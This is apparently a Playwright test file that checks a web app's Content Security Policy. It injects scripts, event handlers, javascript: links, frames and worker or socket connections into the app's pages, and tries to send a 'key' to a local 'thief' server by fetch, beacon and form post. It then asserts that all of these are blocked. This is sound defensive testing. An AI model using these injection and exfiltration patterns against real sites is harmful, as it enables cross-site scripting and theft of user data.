import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, type Page, test } from '@playwright/test';
import { type Grid, openGrid } from './grid.ts';

let grid: Grid;
test.beforeEach(async () => {
  grid = await openGrid();
});
test.afterEach(() => grid?.close());

/** A server of somebody else: it answers everything, and counts what comes. */
async function openThief() {
  const heard: string[] = [];
  const server = createServer((request, response) => {
    heard.push(request.url ?? '');
    response.writeHead(200, {
      'Access-Control-Allow-Origin': '*',
      'Content-Type': 'text/javascript',
      'Cross-Origin-Resource-Policy': 'cross-origin',
    });
    response.end("window.injected = 'from another server';");
  });
  server.on('connection', (socket) => socket.on('error', () => undefined));
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return { url, heard, close: () => server.close() };
}

/** What a hole in a page would let somebody put there; gives what of it the page did. */
const inject = (page: Page, thief: string): Promise<string[]> =>
  page.evaluate(async (url) => {
    const did: string[] = [];
    const add = (name: string, fields: Record<string, string>) => {
      const element = document.createElement(name);
      for (const [field, value] of Object.entries(fields)) element.setAttribute(field, value);
      if (fields['text'] !== undefined) element.textContent = fields['text'];
      document.body.append(element);
      return element;
    };
    const attempt = async (name: string, act: () => unknown) => {
      try {
        await act();
        did.push(name);
      } catch {
        // As it should be.
      }
    };
    add('script', { text: "window.injected = 'inline'" });
    add('script', { src: `${url}/script.js` });
    add('script', { src: `${url}/module.js`, type: 'module' });
    add('img', { src: 'nothing:', onerror: "window.injected = 'handler'" });
    add('img', { src: `${url}/picture?key` });
    add('iframe', { src: `${url}/frame` });
    add('object', { data: `${url}/object` });
    add('link', { rel: 'stylesheet', href: `${url}/style.css` });
    add('a', { href: "javascript:window.injected = 'link'" }).click();
    await attempt('fetch', () => fetch(`${url}/fetch?key`));
    await attempt('import', () => import(`${url}/import.js`));
    await attempt('worker', () => {
      const worker = new Worker(`${url}/worker.js`);
      return new Promise((resolve, reject) => {
        worker.onmessage = resolve;
        worker.onerror = reject;
      });
    });
    await attempt(
      'socket',
      () =>
        new Promise((resolve, reject) => {
          const socket = new WebSocket(url.replace('http', 'ws'));
          socket.onopen = resolve;
          socket.onerror = reject;
        }),
    );
    if (navigator.sendBeacon(`${url}/beacon`, 'key')) await new Promise((r) => setTimeout(r, 300));
    const form = add('form', { action: `${url}/form`, method: 'post' }) as HTMLFormElement;
    form.submit();
    await new Promise((resolve) => setTimeout(resolve, 1_000));
    const { injected } = window as { injected?: string };
    return injected === undefined ? did : [...did, injected];
  }, thief);

test('a script that is injected into a page neither runs nor sends anything away', async ({
  page,
}) => {
  const thief = await openThief();
  await page.addInitScript(() => {
    const violated: string[] = [];
    Object.assign(window, { violated });
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) =>
      violated.push(`${violatedDirective} ${blockedURI}`),
    );
  });
  const violated = () =>
    page.evaluate(() => (window as unknown as { violated: string[] }).violated);
  await page.goto(grid.url);
  await page.getByTestId('start').click();
  await expect(page.getByRole('status').first()).toContainText('No work right now');
  expect(await violated()).toEqual([]);
  for (const path of ['/', `/dashboard#${grid.key}`, '/verdicts']) {
    await page.goto(new URL(path, grid.url).href);
    await page.waitForLoadState('networkidle');
    expect(await violated()).toEqual([]);
    expect(await inject(page, thief.url)).toEqual([]);
    expect((await violated()).length).toBeGreaterThan(8);
  }
  expect(thief.heard).toEqual([]);
  thief.close();
});
